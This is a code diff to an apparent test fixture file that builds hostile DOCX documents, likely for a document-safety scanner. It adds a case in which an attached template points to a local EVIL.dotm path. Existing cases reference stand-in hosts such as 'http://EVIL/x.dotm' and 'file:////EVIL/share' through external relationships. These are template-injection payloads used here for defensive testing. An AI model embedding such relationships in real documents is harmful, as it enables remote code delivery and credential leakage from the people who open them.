@@ -99,14 +99,14 @@ export const pdfTraces =
 const external = (kind: string) => ({
   'word/_rels/document.xml.rels': relationsOf(['rId9', kind, 'file:////EVIL/share', true]),
 })
-const settings = (kind: string, inside: string) => ({
+const settings = (kind: string, inside: string, target = 'http://EVIL/x.dotm') => ({
   overrides: typeOf('/word/settings.xml', 'settings'),
   parts: {
     'word/_rels/document.xml.rels': relationsOf(['rId8', 'settings', 'settings.xml']),
     'word/settings.xml': Buffer.from(
       `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">${inside}</w:settings>`,
     ),
-    'word/_rels/settings.xml.rels': relationsOf(['rId9', kind, 'http://EVIL/x.dotm', true]),
+    'word/_rels/settings.xml.rels': relationsOf(['rId9', kind, target, true]),
   },
 })
 const embedded = (kind: string, name: string, type: string, body: string) =>
@@ -163,6 +163,9 @@ export const hostileDocuments: Record<string, Buffer> = {
     settings('frame', '<w:frameset><w:frame><w:sourceFileName r:id="rId9"/></w:frame></w:frameset>'),
   ),
   'a template elsewhere': docx(settings('attachedTemplate', '<w:attachedTemplate r:id="rId9"/>')),
+  'a template on a disk': docx(
+    settings('attachedTemplate', '<w:attachedTemplate r:id="rId9"/>', 'file:///C:\\Templates\\EVIL.dotm'),
+  ),
   'letters from a database': docx(
     settings(
       'mailMergeSource',
